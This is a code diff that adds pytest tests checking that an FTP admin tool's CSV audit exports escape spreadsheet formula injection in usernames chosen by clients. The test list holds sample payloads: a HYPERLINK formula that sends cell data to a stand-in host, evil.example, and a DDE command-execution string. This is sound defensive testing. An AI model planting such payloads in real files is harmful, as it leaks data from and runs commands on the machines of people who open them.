@@ -571,3 +571,45 @@ def test_export_refuses_more_rows_than_its_limit(admin_client, rows, monkeypatch
 def test_resource_is_export_only(rows):
     with pytest.raises(NotImplementedError):
         AuditEventResource().import_data(None)
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+]
+
+
+def test_export_csv_escapes_formulas_that_a_client_chose(admin_client, db):
+    # Anyone who reaches the port chooses a failed login's username.
+    AuditEvent.objects.bulk_create(
+        [event(event="login_failed", username=name, success=False) for name in FORMULAS]
+        + [event(event="login_failed", username="plain-name", success=False)]
+    )
+    response = _export(admin_client, fmt="0")
+    records = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert sorted(r["username"] for r in records) == sorted(
+        ["'" + name for name in FORMULAS] + ["plain-name"]
+    )
+    # Nothing a spreadsheet would run is left.
+    for r in records:
+        for value in r.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), r
+
+
+def test_transfers_csv_escapes_formulas_that_a_client_chose(admin_client, db):
+    from ftpadmin import exports
+
+    AuditEvent.objects.bulk_create(
+        [
+            event(event="upload", username=name, group="@g", ftp_path="/x", size=1)
+            for name in FORMULAS
+        ]
+    )
+    text = "".join(exports.csv_lines(AuditEvent.objects.order_by("id")))
+    records = list(csv.DictReader(io.StringIO(text)))
+    assert [r["username"] for r in records] == ["'" + name for name in FORMULAS]
+    assert {r["group"] for r in records} == {"'@g"}
+    assert {r["ftp_path"] for r in records} == {"/x"}
